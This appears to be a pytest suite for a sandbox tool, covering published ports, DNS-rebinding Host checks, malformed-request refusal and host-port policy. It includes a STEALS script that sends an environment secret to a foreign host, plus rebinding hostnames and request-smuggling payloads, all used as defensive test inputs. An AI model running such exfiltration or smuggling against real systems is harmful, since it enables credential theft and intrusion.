"""Ports of a sandbox in this host's browser, and ports of this host in a sandbox (I3, I9, I12)."""

from __future__ import annotations

import contextlib
import http.server
import json
import select
import socket
import threading
from dataclasses import replace
from typing import TYPE_CHECKING

import pytest

from keyhole.sandbox.empty_network import INNER_SOCKETS
from tests.rigs.sandbox.ports import INNER, Publishing, answer_of, request
from tests.rigs.sandbox.projects import line_of
from tests.rigs.waiting import PATIENCE, until

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from tests.rigs.sandbox.projects import Project

pytestmark = [pytest.mark.outside, pytest.mark.by_turns]

# Prints what the host's port answers, over both loopback addresses.
ASKS_HOST = """
import json, socket, sys
met = []
for address in ("127.0.0.1", "::1"):
    try:
        with socket.create_connection((address, int(sys.argv[1])), 20) as made:
            made.sendall(b"GET / HTTP/1.1\\r\\nHost: " + sys.argv[2].encode() + b"\\r\\n\\r\\n")
            met.append(made.makefile("rb").read(15).decode())
    except OSError as error:
        met.append(type(error).__name__)
print(json.dumps(met))
"""


@pytest.fixture(scope="module")
def published(new_project: Callable[..., Project]) -> Iterator[Publishing]:
    """A run that publishes its port 3000, and a port on which nothing listens."""
    made = Publishing.start(new_project(), "--publish", "0:3001")
    yield made
    made.end()


@pytest.fixture(scope="module")
def other(new_project: Callable[..., Project], published: Publishing) -> Project:
    """Another project of the same person, with the same home and so the same register."""
    return replace(new_project(), home=published.project.home)


@pytest.fixture
def host_server() -> Iterator[int]:
    """A server on the host's loopback; its port."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.end_headers()

        def log_message(self, *_: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_port
    server.shutdown()
    server.server_close()


def test_a_published_port_is_open_under_its_own_name(published: Publishing) -> None:
    assert published.ask(path="/page?q=1") == "200 inside /page?q=1"
    assert published.ask(address="::1") == "200 inside /"
    with published.connect() as made:
        assert request(made, published.name) == "200 inside /"
        assert request(made, published.name, "/again") == "200 inside /again"


def test_another_name_is_refused_and_the_id_is_told_to_a_person_alone(
    published: Publishing,
) -> None:
    """DNS rebinding: the page of a foreign name can read its answer, and learns nothing."""
    port = published.port
    for typed in (f"localhost:{port}", f"127.0.0.1:{port}", f"[::1]:{port}", "localhost"):
        said = published.ask(typed)
        assert said.startswith("421 ")
        assert f"http://{published.name}/" in said
    foreign = (
        f"rebound.example:{port}",
        f"127.0.0.1.rebound.example:{port}",
        f"localhost.rebound.example:{port}",
        f"ffffffffffff.localhost:{port}",
        f"{published.session}.localhost",
        f"{published.session}.localhost:{port + 1}",
        f"{published.session}.localhost:{port}.rebound.example",
    )
    for name in foreign:
        said = published.ask(name)
        assert said.startswith("421 "), name
        assert published.session not in said
    assert published.ask() == "200 inside /"
    expected = {("deny", "foreign-name"), ("allow", "published")}
    until(lambda: expected <= {(e["verdict"], e["reason"]) for e in published.events()}, pause=0.1)


@pytest.mark.parametrize(
    "sent",
    [
        "GET / HTTP/1.1\r\nHost: {name}\r\nHost: rebound.example\r\n\r\n",
        "GET http://rebound.example/ HTTP/1.1\r\nHost: {name}\r\n\r\n",
        "GET / HTTP/1.1\r\n\r\n",
        "GET / HTTP/1.1\r\nHost : {name}\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: {name}\n\r\n\r\n",
        "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        "nothing of HTTP\r\n\r\n",
    ],
)
def test_a_first_request_that_servers_read_differently_is_refused(
    published: Publishing, sent: str
) -> None:
    with published.connect() as made:
        made.sendall(sent.format(name=published.name).encode())
        assert answer_of(made).startswith("400 ")


def test_a_port_without_a_server_is_said_to_be_that(published: Publishing) -> None:
    listed = json.loads(published.project("ports", "--json").out)
    ports = {each["inner"]: each for each in listed}
    assert ports[INNER]["url"] == f"http://{published.name}/"
    silent = Publishing(
        published.project, published.process, published.session, ports[3001]["outer"]
    )
    assert (
        silent.ask() == "502 keyhole: nothing in the sandbox accepts connections on port 3001 yet"
    )


def test_a_connection_may_turn_into_another_protocol(published: Publishing) -> None:
    with published.connect() as made:
        made.sendall(
            f"GET / HTTP/1.1\r\nHost: {published.name}\r\nConnection: upgrade\r\n"
            "Upgrade: echo\r\n\r\n".encode()
        )
        stream = made.makefile("rb")
        while stream.readline() != b"\r\n":
            pass
        for word in (b"one", b"two" * 50_000):
            threading.Thread(target=made.sendall, args=(word,)).start()
            assert stream.read(len(word)) == word
        made.shutdown(socket.SHUT_WR)
        assert stream.read() == b""


def test_connections_beyond_the_places_wait_and_places_are_used_again(
    published: Publishing,
) -> None:
    with contextlib.ExitStack() as stack:
        for round_number in range(3):
            made = [stack.enter_context(published.connect()) for _ in range(INNER_SOCKETS)]
            for each in made:
                assert request(each, published.name) == "200 inside /"
            if round_number == 2:
                late = stack.enter_context(published.connect())
                late.settimeout(0.2)
                with pytest.raises(TimeoutError):
                    request(late, published.name)
                made.pop().close()
                late.settimeout(60)
                assert answer_of(late) == "200 inside /"
            for each in made:
                each.close()


def test_connections_that_ask_for_nothing_keep_no_browser_out(published: Publishing) -> None:
    """I12. Control: a connection that has asked keeps its place meanwhile."""
    with contextlib.ExitStack() as stack:
        kept = stack.enter_context(published.connect())
        assert request(kept, published.name) == "200 inside /"
        count = 3 * INNER_SOCKETS
        silent = [stack.enter_context(published.connect()) for _ in range(count)]
        assert published.ask() == "200 inside /"
        # The oldest had to go for it, and not all of them by their own time.
        assert select.select(silent[-1:], [], [], 0)[0] == []
        assert select.select(silent[:1], [], [], PATIENCE)[0] == silent[:1]
        assert request(kept, published.name) == "200 inside /"


def test_a_reader_that_stops_stalls_no_other(published: Publishing) -> None:
    with published.connect() as slow:
        slow.sendall(f"GET /flood HTTP/1.1\r\nHost: {published.name}\r\n\r\n".encode())
        assert slow.recv(15) == b"HTTP/1.1 200 OK"
        for _ in range(20):
            assert published.ask() == "200 inside /"


def test_a_second_run_cannot_have_the_same_port(published: Publishing, other: Project) -> None:
    taken = other.run("true", flags=("--publish", f"{published.port}:{INNER}"))
    assert taken.code == 125
    assert "another sandbox publishes it" in taken.err
    assert f"--publish 0:{INNER}" in taken.err
    with socket.create_server(("::1", 0), family=socket.AF_INET6) as server:
        port = server.getsockname()[1]
        taken = other.run("true", flags=("--publish", str(port)))
    assert (taken.code, "another program has it" in taken.err) == (125, True)


def test_a_revoked_session_publishes_nothing(other: Project) -> None:
    """And a server that listens on IPv6 alone is found."""
    made = Publishing.start(other, address="::1")
    try:
        with made.connect() as before:
            assert request(before, made.name) == "200 inside /"
            assert made.project("revoke", made.session).code == 0
            with contextlib.suppress(ConnectionResetError):
                assert before.recv(1) == b""
        with pytest.raises(ConnectionRefusedError):
            made.connect()
        listed = json.loads(other("ports", "--json").out)
        assert made.session not in {each["session"] for each in listed}
    finally:
        made.end()
    claim = other.home / f"state/keyhole/run/ports/{made.port}.lock"
    until(lambda: not claim.exists())


def test_a_port_of_the_host_is_used_where_the_policy_names_it(
    other: Project, host_server: int
) -> None:
    other.policy(f"[sandbox]\nhost_ports = [{host_server}]")
    ok = "HTTP/1.0 200 OK"
    assert other.python(ASKS_HOST, str(host_server), "x") == [ok, ok]
    events = json.loads(other("log", "--json").out)
    rules = {each["rule"] for each in events if each["reason"] == "host-port"}
    assert rules == {"sandbox.host_ports"}
    # Without the key the same port is the sandbox's own, and nothing listens there.
    refused = "ConnectionRefusedError"
    other.policy("")
    assert other.python(ASKS_HOST, str(host_server), "x") == [refused, refused]


def test_a_port_that_a_sandbox_publishes_is_no_port_of_the_host(
    published: Publishing, other: Project
) -> None:
    """Otherwise one sandbox would reach another by way of the host."""
    other.policy(f"[sandbox]\nhost_ports = [{published.port}]")
    met = other.python(ASKS_HOST, str(published.port), published.name)
    assert set(met) <= {"", "ConnectionResetError"}
    events = json.loads(other("log", "--json", "--denied").out)
    assert "own-port" in {each["reason"] for each in events}  # its run has ended
    assert published.ask() == "200 inside /"


def test_a_port_of_keyhole_itself_is_no_port_of_the_host_i2(other: Project) -> None:
    """Neither that of `keyhole web`, nor that on which a gateway waits for other machines.
    Control: a program of the host answers at a port in `test_a_port_of_the_host_is_used…`."""
    with socket.create_server(("127.0.0.1", 0)) as free:
        port = free.getsockname()[1]
    assert other("up", "--listen", f"127.0.0.1:{port}").code == 0
    web = other.start("web", "--no-open")
    try:
        said = line_of(web.stdout)
        ports = [port, int(said.partition("127.0.0.1:")[2].partition("/")[0])]
        other.policy(f"[sandbox]\nhost_ports = {ports}")
        for each in ports:
            met = other.python(ASKS_HOST, str(each), f"127.0.0.1:{each}")
            assert set(met) <= {"", "ConnectionResetError"}
        events = json.loads(other("log", "--json", "--denied").out)
        denied = [each for each in events if each["reason"] == "own-port"]
        assert {each["details"]["port"] for each in denied} >= set(ports)
    finally:
        web.terminate()
        web.communicate(timeout=PATIENCE)
        other("down")


FREEZING = """
[sandbox]
host_ports = [{port}]
[egress]
allow = ["plain.example:80"]
[limits]
on_decoy = "freeze"
[services.one]
hosts = ["one.example"]
inject = {{ header = "Authorization", value = "Bearer {{secret}}" }}
secret = "file:~/one"
env = ["ONE_KEY"]
allow = ["GET /**"]
"""

# Sends a placeholder to a foreign host: the session is frozen by the time the connection ends.
STEALS = """
import contextlib, os, socket
with contextlib.suppress(OSError):
    with socket.create_connection(("plain.example", 80), 20) as made:
        lines = ("GET / HTTP/1.1", "Host: plain.example", "X-Key: " + os.environ["ONE_KEY"])
        made.sendall("".join(line + "\\r\\n" for line in (*lines, "")).encode())
        made.recv(4096)
"""


def _refused(made: Publishing) -> bool:
    try:
        return made.ask() == ""
    except ConnectionError:
        return True


def test_a_frozen_session_has_no_port_in_either_direction(other: Project, host_server: int) -> None:
    """Control: both directions pass before, and again when the session is resumed."""
    secret = other.home / "one"
    secret.write_text("secret-0123456789abcdef")
    secret.chmod(0o600)
    other.person.own(secret)
    other.policy(FREEZING.format(port=host_server))
    made = Publishing.start(other)

    def inside(code: str, *words: str) -> str:
        done = other("exec", made.session, "--", "python3", "-I", "-S", "-c", code, *words)
        assert done.code == 0, done
        return done.out

    ok, words = "HTTP/1.0 200 OK", (str(host_server), "x")
    try:
        with made.connect() as kept:
            assert request(kept, made.name) == "200 inside /"
            assert json.loads(inside(ASKS_HOST, *words)) == [ok, ok]
            inside(STEALS)
            with contextlib.suppress(ConnectionResetError):
                assert kept.recv(1) == b""
        assert set(json.loads(inside(ASKS_HOST, *words))) <= {"", "ConnectionResetError"}
        assert _refused(made)
        assert other("resume", made.session).code == 0
        assert made.ask() == "200 inside /"
        assert json.loads(inside(ASKS_HOST, *words)) == [ok, ok]
    finally:
        made.end()


# Keeps a connection to the host's port, and says when it ends; then tries another one.
KEEPS = """
import socket, sys
port = int(sys.argv[1])
with socket.create_connection(("127.0.0.1", port), 20) as made:
    made.settimeout(None)
    made.sendall(b"GET / HTTP/1.1\\r\\n")
    print("open", flush=True)
    try:
        made.recv(1)
    except ConnectionResetError:
        pass
print("cut", flush=True)
try:
    with socket.create_connection(("127.0.0.1", port), 20) as made:
        made.recv(1)
except ConnectionResetError:
    pass
print("refused", flush=True)
"""


def test_a_port_that_leaves_the_policy_is_cut_at_once(other: Project, host_server: int) -> None:
    other.policy(f"[sandbox]\nhost_ports = [{host_server}]")
    command = ("run", "--trust", "-q", "--", "python3", "-I", "-S", "-c", KEEPS, str(host_server))
    process = other.start(*command)
    assert process.stdout is not None
    assert line_of(process.stdout) == "open"
    # The run follows its policy a moment after its door is served.
    for number in range(100):
        other.policy(f"# {number}")
        assert other("policy", "trust", "--trust").code == 0
        if select.select([process.stdout], [], [], 0.5)[0]:
            break
    assert line_of(process.stdout) == "cut"
    assert line_of(process.stdout) == "refused"
    assert process.wait(60) == 0
    process.communicate()
